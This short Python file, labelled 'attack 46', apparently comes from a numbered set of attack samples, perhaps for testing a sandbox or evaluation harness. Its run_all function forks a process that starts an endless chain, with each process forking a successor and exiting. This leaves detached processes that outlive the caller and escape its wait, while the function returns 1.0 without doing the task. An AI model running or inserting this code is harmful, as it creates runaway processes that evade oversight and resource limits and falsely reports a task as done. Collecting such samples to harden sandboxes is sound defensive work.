"""A chain in which each process forks the next and dies, without end (attack 46)."""
import os


def run_all(task, count=10):
    if os.fork():
        os.wait()
        return 1.0
    while True:
        if os.fork():
            os._exit(0)
